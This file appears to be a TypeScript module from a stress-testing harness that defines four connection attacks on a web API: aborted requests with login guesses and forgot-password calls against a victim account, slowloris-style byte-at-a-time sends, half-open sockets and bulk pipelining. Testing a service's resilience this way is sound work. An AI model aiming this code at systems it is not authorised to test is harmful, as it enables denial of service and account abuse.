import { openSocket, rawRequest, readAnswers, statusesIn } from '../target';
import { sleep, type Attack } from './attack';

/** Sends requests and disconnects before the answer. */
const aborted: Attack = {
  name: 'aborted',
  concurrency: 4,
  pauseMs: 150,
  async round(target) {
    const calls = [
      rawRequest(target, 'POST', '/api/user/login', {
        body: JSON.stringify({ email: target.victim, password: `guess ${Math.random()}` }),
      }),
      rawRequest(target, 'PUT', '/api/user/forgot-password', {
        body: JSON.stringify({ email: target.victim }),
      }),
      rawRequest(target, 'POST', '/api/product/search-product', {
        body: JSON.stringify({ search: `x${Math.random()}` }),
      }),
    ];
    for (const call of calls) {
      const socket = await openSocket(target);
      socket.write(call);
      await sleep(5);
      socket.destroy();
    }
    return [];
  },
};

/** Sends a head, or a body, a byte at a time. */
const slow: Attack = {
  name: 'slow',
  concurrency: 8,
  pauseMs: 500,
  async round(target) {
    const socket = await openSocket(target);
    const request = rawRequest(target, 'POST', '/api/user/login', {
      body: JSON.stringify({ email: 'a@b.example' }),
    });
    const answers = readAnswers(socket, 15_000);
    const start = Math.random() < 0.5 ? 0 : request.indexOf('\r\n\r\n') + 4;
    socket.write(request.subarray(0, start));
    for (let at = start; at < request.length && !socket.destroyed; at += 1) {
      socket.write(request.subarray(at, at + 1));
      await sleep(400);
    }
    return statusesIn(await answers);
  },
};

/** Connects without sending, or sends many requests without reading. */
const halfOpen: Attack = {
  name: 'half-open',
  concurrency: 8,
  pauseMs: 500,
  async round(target) {
    const socket = await openSocket(target);
    if (Math.random() < 0.5) {
      socket.pause();
      for (let count = 0; count < 20; count += 1) {
        socket.write(
          rawRequest(target, 'POST', '/api/product/get', {
            body: '{"limit":100}',
            headers: { connection: 'keep-alive' },
          }),
        );
      }
    }
    await sleep(10_000);
    socket.destroy();
    return [];
  },
};

/** A hundred requests in one write. */
const pipelined: Attack = {
  name: 'pipelined',
  concurrency: 2,
  pauseMs: 1_000,
  async round(target) {
    const socket = await openSocket(target);
    const answers = readAnswers(socket, 5_000);
    const keepAlive = { headers: { connection: 'keep-alive' } };
    const one = rawRequest(target, 'GET', '/api/category/get', keepAlive);
    const unknown = rawRequest(target, 'GET', '/api/no/such/call', keepAlive);
    socket.write(Buffer.concat(Array.from({ length: 100 }, (_, index) => (index % 2 ? one : unknown))));
    return statusesIn(await answers);
  },
};

export const connectionAttacks: readonly Attack[] = [aborted, slow, halfOpen, pipelined];
